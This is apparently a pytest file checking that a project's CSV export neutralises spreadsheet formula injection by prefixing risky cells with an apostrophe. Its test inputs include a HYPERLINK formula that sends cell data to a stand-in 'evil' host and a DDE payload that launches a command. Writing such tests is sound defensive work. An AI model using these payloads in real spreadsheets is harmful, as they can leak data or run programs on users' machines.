"""CSV cells: what a spreadsheet user opens is data, never a formula."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

from trendminer.report.exports import csv_value, write_csv


def test_text_a_spreadsheet_would_run_is_defused_and_numbers_are_not(tmp_path: Path) -> None:
    hostile = ['=HYPERLINK("http://evil/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
               "\tx", "\rx"]  # fmt: skip
    path = tmp_path / "t.csv"
    write_csv(path, ["value"], [[text] for text in hostile] + [[-0.25], [-3], [date(2025, 1, 2)]])
    with path.open(newline="", encoding="utf-8") as handle:
        cells = [row[0] for row in csv.reader(handle)][1:]
    assert cells[: len(hostile)] == ["'" + text for text in hostile]
    assert cells[len(hostile) :] == ["-0.25", "-3", "2025-01-02"]


def test_plain_text_and_lists_are_written_as_they_are() -> None:
    assert csv_value("Paris") == "Paris"
    assert csv_value(["outfit", "ootd"]) == "outfit;ootd"
    assert csv_value(["=1", "x"]) == "'=1;x"
    assert csv_value(None) == ""
